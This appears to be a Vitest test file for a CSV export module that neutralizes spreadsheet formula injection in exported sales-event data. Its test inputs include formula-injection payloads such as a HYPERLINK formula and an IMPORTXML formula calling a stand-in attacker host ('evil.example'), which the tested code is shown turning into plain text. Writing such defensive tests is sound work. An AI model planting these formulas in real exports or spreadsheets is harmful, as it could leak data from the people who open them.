import { describe, expect, it } from 'vitest';
import { csvField, neutralizeCell, toCsv } from '../../lib/export/csv-safe';
import { eventsToCsv } from '../../lib/export/events';
import type { TandemEvent } from '../../lib/model';

describe('formula neutralization', () => {
  it.each(['=SUM(A1:A2)', '+1+1', '-2+3', '@cmd', '\tx', '\rx'])('neutralizes %j', (cell) => {
    expect(neutralizeCell(cell)).toBe(`'${cell}`);
  });
  it('leaves ordinary cells alone, including inner formula characters', () => {
    for (const cell of ['Acme', '1+1', 'a=b', 'mail@example.com', ''])
      expect(neutralizeCell(cell)).toBe(cell);
  });
  it('quotes after neutralizing, so a quoted formula stays text', () => {
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(toCsv(['a', 'b'], [['x,y', 2]])).toBe('a,b\r\n"x,y",2\r\n');
  });
  it('applies to exported events: an insight typed as a formula is exported as text', () => {
    const event: TandemEvent = {
      id: '01890a5d-ac96-774b-bcce-b302099a8057',
      kind: 'field_insight',
      at: Date.UTC(2026, 9, 1),
      rep: { name: 'Sam', email: 'sam@acme.example' },
      category: 'objection',
      text: '=IMPORTXML("http://evil.example")',
      tags: ['@pricing'],
    };
    const csv = eventsToCsv([event]);
    expect(csv).toContain(`"'=IMPORTXML(""http://evil.example"")"`);
    expect(csv).toContain(`'@pricing`);
    expect(csv.split('\r\n')[1]!.startsWith('01890a5d')).toBe(true);
  });
});
